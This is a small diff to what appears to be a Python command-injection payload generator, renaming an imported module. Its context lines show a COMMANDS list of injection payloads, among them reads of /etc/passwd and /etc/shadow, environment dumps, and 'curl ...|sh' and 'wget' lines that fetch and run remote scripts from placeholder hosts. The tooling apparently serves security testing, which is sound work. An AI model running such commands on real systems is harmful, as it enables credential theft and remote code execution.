@@ -7,7 +7,7 @@ documentation of the languages they abuse; nothing is taken from a test list.
 import random
 import string
 
-from mutate import EVENTS, TAGS
+from mutations import EVENTS, TAGS
 
 COMMANDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "ls -la /", "ifconfig", "netstat -an", "ps aux", "env", "pwd", "hostname",
             "sleep {n}", "ping -c {n} {ip}", "nslookup {host}", "curl http://{host}/{w}", "wget http://{host}/{w}.sh -O /tmp/{w}", "curl http://{host}/{w}|sh",
